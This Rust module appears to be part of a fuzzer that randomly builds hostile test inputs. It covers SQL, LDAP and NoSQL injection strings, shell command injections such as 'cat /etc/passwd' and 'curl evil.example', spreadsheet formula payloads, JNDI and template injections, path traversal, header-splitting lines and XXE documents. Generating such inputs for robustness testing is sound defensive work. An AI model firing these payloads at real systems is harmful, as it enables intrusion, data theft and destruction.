//! What other languages than that of pages take for orders.

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::{ELEMENTS, pick};

pub(super) fn databases(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const ENDS: [&str; 9] = ["'", "\"", "`", "')", "'))", "1", "\\'", "%27", "';"];
    const THEN: [&str; 12] = [
        " or 1=1",
        " or '1'='1",
        " union select null,null,null",
        " union all select sqlite_version()",
        "; drop table referral",
        " and pg_sleep(9)",
        " and 1=cast(version() as int)",
        " like '%'",
        " || (select 1)",
        "; select load_extension('x')",
        " order by 99",
        " and randomblob(1000000000)",
    ];
    const REST: [&str; 6] = ["", "--", "-- -", "#", "/*", ";\u{0}"];
    const OTHERS: [&str; 10] = [
        "*)(uid=*",
        "*)(|(objectclass=*",
        "admin*)((|userPassword=*)",
        "' or count(/*)=1 or '",
        "{\"$gt\":\"\"}",
        "[$ne]=1",
        "$1",
        "?",
        ":nom",
        "%_%%_",
    ];
    if chance.random_bool(0.3) {
        return format!("{}{}", pick(chance, &OTHERS), pick(chance, &REST)).into_bytes();
    }
    format!("{}{}{}", pick(chance, &ENDS), pick(chance, &THEN), pick(chance, &REST)).into_bytes()
}

pub(super) fn commands(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const JOINS: [&str; 9] = [";", "|", "||", "&&", "&", "\n", "$(", "`", "|\n"];
    const DO: [&str; 6] =
        ["id", "sleep 9", "cat /etc/passwd", "ping -c 9 127.0.0.1", "curl evil.example", "rm -rf /xq7"];
    const FORMULAS: [&str; 8] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"//evil.example\";\"xq7\")",
    ];
    if chance.random_bool(0.5) {
        return format!("{}{}", pick(chance, &FORMULAS), chance.random_range(0..99)).into_bytes();
    }
    let join = pick(chance, &JOINS);
    let end = if join == "$(" { ")" } else { join };
    format!("{join}{}{end}", pick(chance, &DO)).into_bytes()
}

pub(super) fn templates(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const ROUND: [(&str, &str); 9] = [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("[[", "]]"),
        ("{", "}"),
        ("@(", ")"),
        ("$((", "))"),
    ];
    const INSIDE: [&str; 6] =
        ["7*7", "constructor", "__proto__", "self", "jndi:ldap://evil.example/x", "0:?}{:9999999"];
    const FORMATS: [&str; 6] = ["%s", "%n", "%x", "%99999999d", "%.2147483647f", "{0}"];
    if chance.random_bool(0.3) {
        return pick(chance, &FORMATS).repeat(chance.random_range(1..30)).into_bytes();
    }
    let (start, end) = ROUND[chance.random_range(0..ROUND.len())];
    format!("{start}{}{end}", pick(chance, &INSIDE)).into_bytes()
}

pub(super) fn paths(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const UP: [&str; 8] = ["../", "..\\", "..%2f", "%2e%2e/", "..%c0%af", "....//", "..;/", "/./"];
    const THERE: [&str; 8] = [
        "etc/passwd",
        "windows/win.ini",
        "proc/self/environ",
        ".git/config",
        "data.key",
        "CON",
        "NUL.txt",
        "test.db",
    ];
    const END: [&str; 4] = ["", "\u{0}.csv", "%00", "?"];
    let up = pick(chance, &UP).repeat(chance.random_range(1..12));
    format!("{up}{}{}", pick(chance, &THERE), pick(chance, &END)).into_bytes()
}

/// What would be a header of an answer, of a mail or of a calendar.
pub(super) fn headers(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const LINES: [&str; 7] = ["\r\n", "\n", "\r", "%0d%0a", "\u{85}", "\u{2028}", "\r\n\r\n"];
    const SAID: [&str; 7] = [
        "Set-Cookie: xq7=1",
        "Location: //evil.example",
        "Bcc: evil@example.org",
        "Content-Type: text/html",
        "END:VCALENDAR",
        ".\r\nQUIT",
        "X-Xq7: 1",
    ];
    format!("Zoé{}{}{}", pick(chance, &LINES), pick(chance, &SAID), pick(chance, &LINES)).into_bytes()
}

/// What readers of files fall for, and keys that are nobody's.
pub(super) fn files(chance: &mut ChaCha8Rng) -> Vec<u8> {
    const READ: [&str; 14] = [
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
        "<!DOCTYPE x [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>",
        "{\"a\":[[[[[[[[",
        "\"\";\"\"\r\n=1;=1",
        "a;b;c\n\"",
        "0197f1f0-0000-7000-8000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "00000000-0000-0000-0000-00000000000g",
        "aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "null",
        "undefined",
        "true",
        "[object Object]",
        "coop-connexion",
    ];
    let mut made = pick(chance, &READ).to_owned();
    if chance.random_bool(0.3) {
        made.push_str(pick(chance, &ELEMENTS));
    }
    if chance.random_bool(0.5) {
        made.push_str(&chance.random_range(0..9_999).to_string());
    }
    made.into_bytes()
}
